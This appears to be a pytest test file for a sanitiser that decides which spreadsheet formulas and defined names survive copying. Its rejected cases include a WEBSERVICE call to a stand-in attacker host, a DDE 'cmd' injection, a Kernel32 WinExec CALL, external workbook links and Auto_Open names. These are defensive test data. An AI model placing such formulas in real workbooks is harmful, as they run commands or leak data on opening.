"""Which formulas of a clerk's own validations, formats and names may stay in a copy."""

import pytest

from tasks.forms.harmless import is_harmless, is_range, runs_by_name


@pytest.mark.parametrize(
    "formula",
    [
        None,
        "",
        '"宗,件,%"',
        "数据!$B$3:$B$4",
        "fz_tick",
        "MOD(ROW(),2)=0",
        "SUMPRODUCT(--ISNUMBER(FIND(names,D5)))=0",
        '"看 http://www.gd.gov.cn [1]"',
        "INDIRECT($A2)",
        'INDIRECT("单位"&$A2)',
        'A1="见 http://www.gd.gov.cn"',
    ],
)
def test_what_compares_and_counts_stays(formula: str | None) -> None:
    assert is_harmless(formula)


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://evil.example")',
        'LEN(webservice ("http://evil.example"))>0',
        "[1]Sheet1!$A$1",
        "'C:\\[book.xlsx]Sheet1'!A1",
        "cmd|'/C calc'!A0",
        'CALL("Kernel32","WinExec","JFJ")',
        "macro()",
        "_xlfn.WEBSERVICE(A1)",
        "\\\\server\\share!A1",
        "INDIRECT(\"'\\\\server\\[x.xls]S'!A1\")",
        "INDIRECT(\"'file:///x.ods'#S.A1\")",
    ],
)
def test_what_runs_or_reaches_out_goes(formula: str) -> None:
    assert not is_harmless(formula)


@pytest.mark.parametrize("formula", ["数据!$A$1:$B$9", "'某 表'!$A:$C,数据!$1:$4", "Sheet1!$A$1", "$A$1"])
def test_names_of_ranges_stay(formula: str) -> None:
    assert is_range(formula)


@pytest.mark.parametrize(
    "formula", [None, "", "[1]Sheet1!$A$1", 'EXEC("calc")', "#REF!", "1+1", "'[b.xlsx]S'!$A$1"]
)
def test_other_names_go(formula: str | None) -> None:
    assert not is_range(formula)


@pytest.mark.parametrize("name", ["Auto_Open", "_xlnm.Auto_Close", "auto_activate"])
def test_names_that_run_go(name: str) -> None:
    assert runs_by_name(name)


@pytest.mark.parametrize("name", ["_xlnm.Print_Area", "单位", "automatic"])
def test_names_that_only_name_stay(name: str) -> None:
    assert not runs_by_name(name)
